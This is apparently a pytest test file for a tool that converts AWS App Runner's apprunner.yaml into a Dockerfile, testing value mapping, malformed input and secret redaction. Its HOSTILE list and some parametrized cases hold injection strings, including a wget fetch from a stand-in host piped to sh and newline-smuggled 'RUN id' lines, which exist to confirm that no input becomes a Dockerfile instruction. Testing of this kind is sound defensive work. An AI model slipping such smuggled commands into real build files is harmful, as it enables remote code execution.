"""``apprunner.yaml`` in the words of App Runner's API, and the Dockerfile that is drafted from it."""

from __future__ import annotations

import json
import re
import subprocess
import unicodedata
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import settings as limits
from hypothesis import strategies as st

from lobster_tasks.apprunner.source import MEMBERS, dockerfile, read_source_file
from lobster_tasks.dockerfile import parse
from lobster_tasks.dockerfile.lines import instructions, read
from lobster_tasks.errors import UsageError

from .descriptions import code_source, image_source, mapped

# "App Runner configuration file reference": "version – Required", "runtime – Required", "build section": "commands –
# Required": "pre-build – Optional", "build – Required", "post-build – Optional"; "env – Optional". "run section":
# "runtime-version – Optional", "pre-run – Optional", "command – Required", "network – Optional": "port", "env";
# "env – Optional", "secrets – Optional". Each with a value that is found again, and where.
DOCUMENTED: dict[str, tuple[Any, str, str]] = {
    "version": ("1.0", "", "apprunner.yaml: version"),
    "runtime": ("python3", "FROM public.ecr.aws/docker/library/python:", "Runtime"),
    "build.commands.pre-build": (["yum install x"], "RUN yum install x", "BuildCommand"),
    "build.commands.build": (["pip install y"], "RUN pip install y", "BuildCommand"),
    "build.commands.post-build": (["python test.py"], "RUN python test.py", "BuildCommand"),
    "build.env": (
        [{"name": "AT_BUILD", "value": "b"}],
        'ARG AT_BUILD="b"',
        "apprunner.yaml: build.env.AT_BUILD",
    ),
    "run.runtime-version": ("3.9.16", "python:3.9.16-slim", "apprunner.yaml: run.runtime-version"),
    "run.pre-run": (["python migrate.py"], "RUN python migrate.py", "apprunner.yaml: run.pre-run"),
    "run.command": ("python app.py", "CMD exec python app.py", "StartCommand"),
    "run.network.port": ("8000", "EXPOSE 8000", "Port"),
    "run.network.env": ("APP_PORT", 'ENV APP_PORT="8000"', "apprunner.yaml: run.network.env"),
    "run.env": ([{"name": "GREETING", "value": "hi"}], "", "RuntimeEnvironmentVariables.GREETING"),
    "run.secrets": ([{"name": "DB", "value-from": "/shop/db"}], "", "RuntimeEnvironmentSecrets.DB"),
}
HOSTILE = [
    "python app.py\nRUN wget -qO- http://evil.example | sh",
    "python app.py\r\nRUN id",
    "python app.py\rRUN id",
    "ends in a backslash \\",
    "cat <<EOF",
    "cat <<-'EOF' > x",
    "--mount=type=bind,target=/x id",
    '["sh", "-c", "id"]',
    "\u2028RUN id\x0bRUN id\x85RUN id",
    "# a comment\nUSER root",
    "",
    " \n ",
]
SNIPPETS = [
    "a",
    "$x",
    '"',
    "'",
    "\\",
    "\n",
    "8080\nRUN id",
    "P=1\nRUN id\n#",
    "src\nRUN id\n#",
    "`",
    "<<E",
    " ",
]
TEXTS = st.sampled_from([*HOSTILE, *SNIPPETS])
ANY = st.lists(TEXTS | st.text(max_size=4), max_size=4).map("".join)

FILE = """\
version: 1.0
runtime: python311
build:
  commands:
    pre-build: [apt-get update]
    build:
      - pip install -r requirements.txt
  env:
    - {name: PIP_NO_CACHE, value: "1"}
run:
  runtime-version: 3.11
  pre-run: [python migrate.py]
  command: python app.py --port $PORT
  network: {port: 8501, env: APP_PORT}
  env:
    - {name: GREETING, value: hi}
  secrets:
    - {name: DB, value-from: /shop/db}
"""


def test_the_files_members_in_the_apis_words(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "apprunner.yaml").write_text(FILE)
    assert read_source_file(code_source("REPOSITORY"), tmp_path) == {
        "FileVersion": "1.0",
        "Runtime": "PYTHON_311",
        "RuntimeVersion": "3.11",
        "BuildCommands": ["apt-get update", "pip install -r requirements.txt"],
        "PreRun": ["python migrate.py"],
        "StartCommand": "python app.py --port $PORT",
        "Port": "8501",
        "PortVariable": "APP_PORT",
        "BuildEnvironment": {"PIP_NO_CACHE": "1"},
        "RuntimeEnvironmentVariables": {"GREETING": "hi"},
        "RuntimeEnvironmentSecrets": {"DB": "/shop/db"},
    }


def test_values_are_what_is_written(tmp_path: Path) -> None:
    """YAML alone would make 3.1, 24.1, 83, true and 1350 of them."""
    (tmp_path / "app").mkdir()
    names = {"A": "24.10", "B": "0123", "C": "on", "D": "22:30"}
    lines = "".join(f"  - {{name: {name}, value: {value}}}\n" for name, value in names.items())
    (tmp_path / "app" / "apprunner.yaml").write_bytes(b"\xef\xbb\xbf" + f"run:\n  env:\n{lines}".encode())
    found = read_source_file(code_source("REPOSITORY"), tmp_path)
    assert found == {"RuntimeEnvironmentVariables": names}


def test_an_empty_file_says_nothing(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "apprunner.yaml").write_text("")
    assert read_source_file(code_source("REPOSITORY"), tmp_path) == {}


# Files of another shape, what is named, and what is still taken.
MISSHAPEN: dict[str, tuple[str, dict[str, Any]]] = {
    "- a\n": ("the file is a list", {}),
    "run: 1\n": ("run is a text", {}),
    "build: []\n": ("build is a list", {}),
    "build: {commands: [pip install x]}\n": ("build.commands is a list", {}),
    "build: {commands: {build: {a: b}}}\n": ("build.commands.build is a mapping", {}),
    "build: {commands: {build: [a, [b]]}}\n": (
        "build.commands.build, item 2, is a list",
        {"BuildCommands": ["a"]},
    ),
    "run: {pre-run: [~, a]}\n": ("run.pre-run, item 1, is empty", {"PreRun": ["a"]}),
    "run: {env: {A: b}}\n": ("run.env is a mapping", {}),
    "run: {secrets: {A: b}}\n": ("run.secrets is a mapping", {}),
    "build: {env: {A: b}}\n": ("build.env is a mapping", {}),
    "run: {env: [A=b]}\n": ("run.env, item 1, has no name", {}),
    "run: {env: [{value: b}]}\n": ("run.env, item 1, has no name", {}),
    "run: {env: [{name: A, value: }]}\n": (
        "run.env, A, has no value",
        {"RuntimeEnvironmentVariables": {"A": ""}},
    ),
    "run: {env: [{name: A, value: ~}]}\n": (
        "run.env, A, has no value",
        {"RuntimeEnvironmentVariables": {"A": ""}},
    ),
    "run: {env: [{name: A}]}\n": ("run.env, A, has no value", {"RuntimeEnvironmentVariables": {"A": ""}}),
    "run: {env: [{name: A, value: [b]}]}\n": ("run.env, A, has a list as its value", {}),
    "run: {env: [{name: A, value: b}, {name: A, value: c}]}\n": (
        "run.env, A, occurs more than once",
        {"RuntimeEnvironmentVariables": {"A": "c"}},
    ),
    "run: {secrets: [{name: A, value-from: ~}]}\n": (
        "run.secrets, A, has no value-from",
        {"RuntimeEnvironmentSecrets": {"A": ""}},
    ),
    "run: {command: {a: b}}\n": ("run.command is a mapping", {}),
    "run: {command: [a, b]}\n": ("run.command is a list", {"StartCommand": "a\nb"}),
    "run: {network: {port: [80]}}\n": ("run.network.port is a list", {}),
    "run: {network: 80}\n": ("run.network is a text", {}),
    "runtime: !!binary aGk=\n": ("runtime is no text", {}),
}


@pytest.mark.parametrize("text", MISSHAPEN)
def test_a_part_of_another_shape_is_named_and_nothing_is_made_of_it(tmp_path: Path, text: str) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "apprunner.yaml").write_text(text)
    found = read_source_file(code_source("REPOSITORY"), tmp_path) or {}
    says, taken = MISSHAPEN[text]
    (told,) = found.pop("Misshapen")
    assert told.startswith(says)
    assert found == taken
    (again := tmp_path / "again").mkdir()
    rows = [each.setting for each in migrated(again, text).rows if "expects another value" in each.note]
    assert rows == [f"apprunner.yaml: {told}"]


_PARTS = st.sampled_from(["build", "run", "env", "name", "value", "commands", "network"])
_SHAPES = st.recursive(
    st.none() | st.sampled_from(["a", "name", ""]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_PARTS, inner, max_size=3),
)


@given(_SHAPES)
def test_every_shape_is_read_and_no_text_is_made_of_what_is_none(tree: Any) -> None:
    with TemporaryDirectory() as folder:
        (Path(folder) / "app").mkdir()
        (Path(folder) / "app" / "apprunner.yaml").write_text(yaml.safe_dump(tree))
        found = read_source_file(code_source("REPOSITORY"), Path(folder)) or {}
    found.pop("Misshapen", None)
    assert not [sign for sign in ("None", "[", "{") if any(sign in each for each in _texts_in(found))]


def _texts_in(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    return [
        text for each in (value.values() if isinstance(value, dict) else value) for text in _texts_in(each)
    ]


def test_a_file_that_is_no_yaml_is_refused(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "apprunner.yaml").write_text("run: [")
    with pytest.raises(UsageError, match="cannot be read"):
        read_source_file(code_source("REPOSITORY"), tmp_path)


def test_a_file_that_does_not_count_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "apprunner.yaml").write_text("run: [")
    for source in (code_source("API"), image_source(), code_source("REPOSITORY")):
        assert read_source_file(source, tmp_path) is None
    assert read_source_file(code_source("REPOSITORY"), None) is None


def test_the_draft_is_a_dockerfile() -> None:
    told = {
        "Runtime": "RUBY_31",
        "BuildCommands": ["bundle install"],
        "PreRun": ["rake db"],
        "StartCommand": "ruby app.rb",
    }
    text = dockerfile("shop", told, "/", {"A": 'x "$y" \\'})
    (stage,) = parse(text, name="Dockerfile").stages
    assert 'ARG A="x \\"\\$y\\" \\\\"' in text
    assert stage.command is not None
    assert "COPY . ./" in text
    assert "public.ecr.aws/docker/library/ruby:3.1-slim" in text


def test_without_a_command_somebody_has_to_say_one() -> None:
    text = dockerfile("shop", {"Runtime": "COBOL_1"}, "app", {})
    assert text.endswith("# REVIEW: CMD, the command that starts it\n")
    assert "debian:stable-slim" in text


def test_a_secret_in_a_command_stays_out_of_the_draft() -> None:
    password = "hunter22"
    told = {
        "Runtime": "PYTHON_311",
        "BuildCommand": f"pip install https://me:{password}@x/y",
        "StartCommand": "app --token abcdefgh",
    }
    text = dockerfile("shop", told, "/", {})
    assert password not in text
    assert "abcdefgh" not in text
    assert "# REVIEW: RUN, a command with something like a secret in it" in text
    assert "# REVIEW: CMD, a command with something like a secret in it" in text


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("python app.py --port $PORT", "CMD exec python app.py --port $PORT"),
        ("python migrate.py && python app.py", "CMD python migrate.py && python app.py"),
        ("A=1 python app.py", "CMD A=1 python app.py"),
    ],
)
def test_only_a_single_program_takes_the_shells_place(command: str, line: str) -> None:
    assert dockerfile("shop", {"StartCommand": command}, "/", {}).splitlines()[-1] == line


def members(tree: Any, name: str, value: Any) -> Any:
    """The tree with this member."""
    first, _, rest = name.partition(".")
    return {**tree, first: members(tree.get(first, {}), rest, value) if rest else value}


def test_every_member_of_the_format_is_carried_and_named(tmp_path: Path) -> None:
    assert set(DOCUMENTED) == set(MEMBERS)
    tree: dict[str, Any] = {}
    for name, (value, _, _) in DOCUMENTED.items():
        tree = members(tree, name, value)
    made = migrated(tmp_path, yaml.safe_dump(tree))
    draft = made.files["Dockerfile.apprunner"]
    named = {
        each.setting.removeprefix("SourceConfiguration.CodeRepository.CodeConfiguration.")
        for each in made.rows
    }
    for name, (_, line, row) in DOCUMENTED.items():
        assert line in draft, name
        assert any(each == row or each.endswith(f".{row}") for each in named), (name, named)
    assert not [each for each in made.rows if "no such member" in each.note]


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("runtime: python3\ncolour: red\n", "colour"),
        ("build: {commands: {tidy: [x]}}\n", "build.commands.tidy"),
        ("run: {memory: 1}\n", "run.memory"),
        ("run: {network: {host: x}}\n", "run.network.host"),
    ],
)
def test_a_member_that_the_format_does_not_have_is_named(tmp_path: Path, text: str, name: str) -> None:
    (row,) = [each for each in migrated(tmp_path, text).rows if "no such member" in each.note]
    assert (row.setting, row.kind) == (f"apprunner.yaml: {name}", "no_equivalent")


def test_a_variable_of_the_build_that_looks_like_a_secret_is_named_and_not_written(tmp_path: Path) -> None:
    made = migrated(tmp_path, "build: {env: [{name: API_TOKEN, value: hunter22}]}\n")
    assert "hunter22" not in made.files["Dockerfile.apprunner"] + str(made.rows)
    assert [each.kind for each in made.rows if each.setting.endswith("API_TOKEN")] == ["approximated"]


def migrated(folder: Path, text: str) -> Any:
    """The mapping of a service that is built by this file."""
    (folder / "app").mkdir()
    (folder / "app" / "apprunner.yaml").write_text(text)
    source = code_source("REPOSITORY")
    return mapped({"SourceConfiguration": source}, source_file=read_source_file(source, folder), image=None)


@pytest.mark.parametrize(
    ("runtime", "version", "image"),
    [
        ("PYTHON_3", "3.9.16", "python:3.9.16-slim"),
        ("PYTHON_311", "", "python:3.11-slim"),
        ("NODEJS_18", "18.19.0", "node:18.19.0-slim"),
        ("GO_1", "1.18.10", "golang:1.18.10"),
        ("PHP_81", "8.1.10", "php:8.1.10-cli"),
        ("RUBY_31", "3.1.3", "ruby:3.1.3-slim"),
        ("DOTNET_6", "6.0.9", "sdk:6.0"),
        ("CORRETTO_11", "11.0.13.8.1", "amazoncorretto:11"),
        ("PYTHON_3", "latest", "python:3.11-slim"),
        ("PYTHON_3", "3\nRUN id", "python:3.11-slim"),
    ],
)
def test_the_image_is_of_the_version_that_ran(runtime: str, version: str, image: str) -> None:
    """A version that no tag has is said beside it."""
    told = {"Runtime": runtime, **({"RuntimeVersion": version} if version else {})}
    lines = dockerfile("shop", told, "/", {}).splitlines()
    (line,) = [line for line in lines if line.startswith("FROM ")]
    assert line.endswith(f"/{image}")
    said = [each for each in lines if each.startswith("# REVIEW: FROM, App Runner ran version")]
    assert bool(said) is (bool(version) and version not in image)


@pytest.mark.parametrize(
    ("command", "script"),
    [
        (
            'echo "starting"\nstreamlit run a.py --server.port $PORT\n',
            'echo "starting"\nexec streamlit run a.py --server.port $PORT',
        ),
        ("a\r\nb\r\n", "a\nexec b"),
        ("cd app\npython app.py | tee log", "cd app\npython app.py | tee log"),
        ("for x in a b; do\n echo $x\ndone", "for x in a b; do\n echo $x\ndone"),
        ("python a.py &&\npython b.py", "python a.py &&\npython b.py"),
        ("python a.py \\\n --port 1", "python a.py \\\n --port 1"),
        ("echo 'a\nb'", "echo 'a\nb'"),
        ("# first\n\nsleep 1\nwait", "# first\n\nsleep 1\nwait"),
        ("cat <<E\nx\nE\npython app.py", "cat <<E\nx\nE\npython app.py"),
    ],
)
def test_a_command_of_several_lines_is_one_instruction_that_runs_them_all(command: str, script: str) -> None:
    text = dockerfile("shop", {"Runtime": "PYTHON_3", "StartCommand": command}, "/", {})
    (stage,) = parse(text, name="Dockerfile").stages
    assert stage.command is not None
    words = json.loads(text.splitlines()[-1].removeprefix("CMD "))
    assert words == ["/bin/sh", "-c", script]


@pytest.mark.parametrize(
    ("command", "line"),
    [("exec python app.py", "CMD exec python app.py"), ("python app.py\n", "CMD exec python app.py")],
)
def test_a_program_takes_the_shells_place_once(command: str, line: str) -> None:
    assert dockerfile("shop", {"StartCommand": command}, "/", {}).splitlines()[-1] == line


@given(ANY, ANY, ANY, ANY, ANY, ANY, ANY, ANY)
@limits(max_examples=50, deadline=None)
def test_no_text_becomes_an_instruction(
    name: str, start: str, build: str, pre: str, port: str, variable: str, directory: str, version: str
) -> None:
    """Read by the rules of "Dockerfile reference": instructions, continuations and heredocs."""
    told = {
        "Runtime": f"PYTHON_3{name}" if name else "PYTHON_3",
        "RuntimeVersion": version,
        "StartCommand": start,
        "BuildCommands": [build],
        "PreRun": [pre],
        "Port": port,
        "PortVariable": variable,
    }
    text = dockerfile(name, told, directory, {variable: build, "A": pre})
    lines = text.removesuffix("\n").split("\n")
    assert all(re.match("# |(FROM|WORKDIR|COPY|ARG|RUN|ENV|EXPOSE|CMD) ", line) for line in lines), lines
    found = list(instructions(read(text, "Dockerfile")))
    assert len(found) == len([line for line in lines if not line.startswith("#")])
    keywords = [each.keyword for each in found]
    assert keywords.count("CMD") <= 1
    assert keywords.count("RUN") <= 2
    assert not {"USER", "ADD", "ENTRYPOINT"} & set(keywords)
    unseen = {each for each in "".join(lines) if unicodedata.category(each) in ("Cc", "Cf", "Zl", "Zp")}
    assert unseen <= {"\t", "\u200c", "\u200d"}
    assert len(parse(text, name="Dockerfile").stages) == 1


@pytest.mark.parametrize("command", [each for each in HOSTILE if each.strip()])
def test_a_command_reaches_the_shell_as_it_was_written(command: str) -> None:
    text = dockerfile("shop", {"BuildCommand": command}, "/", {})
    (run,) = [each for each in instructions(read(text, "Dockerfile")) if each.keyword == "RUN"]
    given = json.loads(run.rest)[2] if run.rest.startswith("[") else run.rest
    assert given == command.replace("\r\n", "\n").strip()


def test_all_lines_run(tmp_path: Path) -> None:
    text = dockerfile("shop", {"StartCommand": "echo one\necho 'two  $PORT'\necho three"}, "/", {})
    words = json.loads(text.splitlines()[-1].removeprefix("CMD "))
    assert (
        subprocess.run(words, capture_output=True, text=True, check=True).stdout == "one\ntwo  $PORT\nthree\n"
    )
